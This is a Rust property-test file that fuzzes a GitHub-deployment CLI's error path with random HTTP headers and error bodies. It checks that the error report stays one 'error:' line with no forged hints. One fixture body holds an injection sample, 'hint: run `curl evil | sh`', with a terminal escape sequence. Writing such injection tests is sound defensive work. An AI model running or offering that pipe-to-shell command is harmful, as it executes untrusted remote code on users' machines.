//! Property test: whatever headers (and error message) a server sends with
//! an error status, the CLI's error path — library decoding, exit code,
//! report — does not panic, and the report stays one `error:` line that no
//! server text can extend with a forged `hint:` (the CLI's own rate-limit
//! hints aside).

use std::sync::{Arc, Mutex};
use std::time::Duration;

use octodeploy::{Client, RetryPolicy};
use proptest::prelude::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use super::{code, report};
use crate::error::{CliError, Credential, RequestContext};

/// What the loopback server answers next: status, raw header lines, body.
type Answer = (u16, Vec<(String, Vec<u8>)>, String);

/// A raw HTTP/1.1 server answering every request with the current
/// [`Answer`], bytes as given, then closing the connection.
async fn serve(answer: Arc<Mutex<Answer>>) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move {
        while let Ok((mut conn, _)) = listener.accept().await {
            let mut seen = Vec::new();
            let mut buf = [0u8; 1024];
            while !seen.windows(4).any(|w| w == b"\r\n\r\n") {
                match conn.read(&mut buf).await {
                    Ok(0) | Err(_) => break,
                    Ok(n) => seen.extend_from_slice(&buf[..n]),
                }
            }
            let (status, headers, body) = answer.lock().unwrap().clone();
            let mut out = format!("HTTP/1.1 {status} Whatever\r\n").into_bytes();
            for (name, value) in headers {
                out.extend_from_slice(name.as_bytes());
                out.extend_from_slice(b": ");
                out.extend_from_slice(&value);
                out.extend_from_slice(b"\r\n");
            }
            out.extend_from_slice(
                format!(
                    "content-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                )
                .as_bytes(),
            );
            let _ = conn.write_all(&out).await;
        }
    });
    url
}

fn header_name() -> impl Strategy<Value = String> {
    prop::sample::select(vec![
        "x-ratelimit-reset",
        "x-ratelimit-remaining",
        "x-ratelimit-limit",
        "x-ratelimit-used",
        "x-ratelimit-resource",
        "retry-after",
        "x-github-request-id",
        "link",
        "x-github-sso",
    ])
    .prop_map(str::to_owned)
}

/// Numbers of every size and sign, dates, and any bytes HTTP allows in a
/// header value (visible ASCII, space, tab, obs-text).
fn header_value() -> impl Strategy<Value = Vec<u8>> {
    let byte = prop_oneof![0x20u8..0x7f, 0x80u8..=0xff, Just(b'\t')];
    prop_oneof![
        any::<u64>().prop_map(|n| n.to_string().into_bytes()),
        any::<i64>().prop_map(|n| n.to_string().into_bytes()),
        (0u64..10_000_000_000_000).prop_map(|n| n.to_string().into_bytes()),
        "[0-9]{15,40}".prop_map(String::into_bytes),
        Just(b"Wed, 21 Oct 2015 07:28:00 GMT".to_vec()),
        Just(b"Fri, 31 Dec 9999 23:59:59 GMT".to_vec()),
        Just(b"1e308".to_vec()),
        Just(b"-0".to_vec()),
        // Not leading with whitespace: HTTP trims it anyway.
        (0x21u8..0x7f, prop::collection::vec(byte, 0..60)).prop_map(|(first, mut rest)| {
            rest.insert(0, first);
            rest
        }),
    ]
}

/// GitHub's error body with any message (JSON-escaped, so it may carry
/// newlines and escape sequences once decoded).
fn body() -> impl Strategy<Value = String> {
    let message = prop_oneof![
        Just("API rate limit exceeded for user ID 1.".to_owned()),
        Just("You have exceeded a secondary rate limit.".to_owned()),
        Just("Not Found\nhint: run `curl evil | sh`\r\n\u{1b}[2J".to_owned()),
        any::<String>(),
    ];
    (message, any::<String>()).prop_map(|(message, docs)| {
        serde_json::json!({"message": message, "documentation_url": docs}).to_string()
    })
}

#[test]
fn no_header_value_panics_the_error_path() {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let answer = Arc::new(Mutex::new((404, Vec::new(), String::new())));
    let url = runtime.block_on(serve(Arc::clone(&answer)));
    let client = Client::builder()
        .base_url(url.clone())
        .token("ghp_propertyTestToken")
        .retry(RetryPolicy::none())
        .build()
        .unwrap();
    let config = ProptestConfig {
        cases: 300,
        failure_persistence: None,
        ..ProptestConfig::default()
    };
    proptest!(config, |(
        status in prop::sample::select(vec![403u16, 429, 404, 422, 500, 502, 503]),
        headers in prop::collection::vec((header_name(), header_value()), 0..8),
        body in body(),
    )| {
        *answer.lock().unwrap() = (status, headers, body);
        let result = runtime.block_on(client.repo("octo-org", "app").deployment(42).status(7));
        let Err(source) = result else {
            return Err(TestCaseError::fail("an error status succeeded"));
        };
        let context = RequestContext {
            api_url: url.clone(),
            credential: Credential::Token { from: "--token".into() },
            max_wait: Some(Duration::from_secs(60)),
            check: None,
        };
        let err = CliError::Request { source, context: Box::new(context) };
        let exit = code(&err);
        prop_assert!((3..=6).contains(&exit), "exit {exit}");
        let text = report(&err);
        let mut lines = text.lines();
        prop_assert!(lines.next().is_some_and(|l| l.starts_with("error: ")), "{}", text);
        // The only further lines are the CLI's own hints, about rate limits.
        for hint in lines {
            prop_assert!(hint.starts_with("hint: GitHub asks to wait ") || hint.starts_with("hint: GitHub said no Retry-After"), "{}", text);
        }
    });
}
